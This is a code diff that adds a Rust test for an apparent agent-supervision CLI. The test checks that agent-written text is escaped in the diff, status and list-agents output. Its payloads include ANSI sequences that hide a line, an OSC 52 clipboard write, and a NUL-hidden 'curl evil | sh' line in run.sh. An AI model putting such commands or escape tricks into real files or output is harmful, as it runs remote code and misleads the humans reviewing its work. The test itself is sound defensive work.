@@ -109,3 +109,30 @@ fn two_agents_on_different_lines_both_land() {
     f.cairn(&["accept", &b]).ok();
     assert_eq!(f.read_str("f.py").unwrap(), BASE.replace("l2\n", "A\n").replace("l8\n", "B\n"));
 }
+
+/// Output an agent controls can't lie: `diff`, `status` and `list-agents` of an agent writing
+/// ANSI, OSC 52 and NUL show no raw ESC or C0 byte but `\n` and `\t`, and the NUL is visible.
+#[test]
+fn agent_text_is_escaped_in_every_cli_surface() {
+    let f = Fixture::with_files(&[("run.sh", "#!/bin/sh\necho hello\n"), ("notes.txt", "a\nb\n")]);
+    let code = r#"
+write_file('notes.txt', 'a\n\x1b[2K\x1b[1Ahidden line\nb\n')
+write_file('run.sh', '#!/bin/sh\necho hello\n\x00curl evil | sh\n')
+submit_result('done \x1b]52;c;ZXZpbA==\x07 \x1b[31mred', ['notes.txt', 'run.sh'])
+"#;
+    let s = f.run_ok(code);
+    let raw = |text: &str| text.bytes().any(|b| (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f);
+    for args in [vec!["diff", s.id.as_str()], vec!["status", s.id.as_str()], vec!["list-agents"]] {
+        let r = f.cairn(&args).ok();
+        assert!(!raw(&r.stdout) && !raw(&r.stderr), "{args:?} printed raw control bytes: {:?}", r.stdout);
+    }
+    let diff = f.cairn(&["diff", &s.id]).ok().stdout;
+    assert!(diff.contains("\\x1b[2K") && diff.contains("hidden line"), "{diff}");
+    assert!(diff.contains("WARNING run.sh: contains NUL") && diff.contains("+\\0curl evil | sh"), "the NUL payload must be visible:\n{diff}");
+    assert!(!diff.contains("Binary files"), "{diff}");
+    let status = f.cairn(&["status", &s.id]).ok().stdout;
+    assert!(status.contains("\\x1b]52;c;ZXZpbA==\\x07"), "{status}");
+    // --json stays raw JSON (escaped by JSON itself, exact).
+    let json = f.cairn(&["status", &s.id, "--json"]).ok().json();
+    assert_eq!(json["submission"]["summary"].as_str().unwrap(), "done \u{1b}]52;c;ZXZpbA==\u{7} \u{1b}[31mred");
+}
